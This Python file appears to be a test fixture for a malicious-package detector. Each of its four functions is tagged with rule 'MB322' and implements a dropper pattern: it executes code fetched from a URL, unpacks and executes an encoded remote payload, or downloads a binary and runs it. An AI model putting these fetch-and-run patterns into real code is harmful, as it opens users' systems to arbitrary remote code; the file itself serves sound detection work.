# ruff: noqa
"""Droppers: code fetched from a server and run (the stage-two loader of most malicious
packages, e.g. the PyPI "colourama"/"ctx"-era loaders and the W4SP stealer's
`exec(requests.get(url).text)`, as described in Phylum's and Checkmarx's public write-ups)."""
import base64
import os
import stat
import subprocess
import zlib
from urllib.request import urlopen, urlretrieve

import requests as rq


def stage_two(url):
    exec(urlopen(url, timeout=5).read())  # attack: MB322


def packed(url):
    blob = rq.get(url, timeout=5).content
    payload = zlib.decompress(base64.b64decode(blob))
    exec(payload)  # attack: MB322


def binary(url, path):
    urlretrieve(url, path)
    os.chmod(path, stat.S_IRWXU)  # attack: MB322
    subprocess.Popen([path])  # attack: MB322


def written(url, path):
    data = rq.get(url, timeout=5).content
    with open(path, "wb") as out:
        out.write(data)
    os.system(path)  # attack: MB322
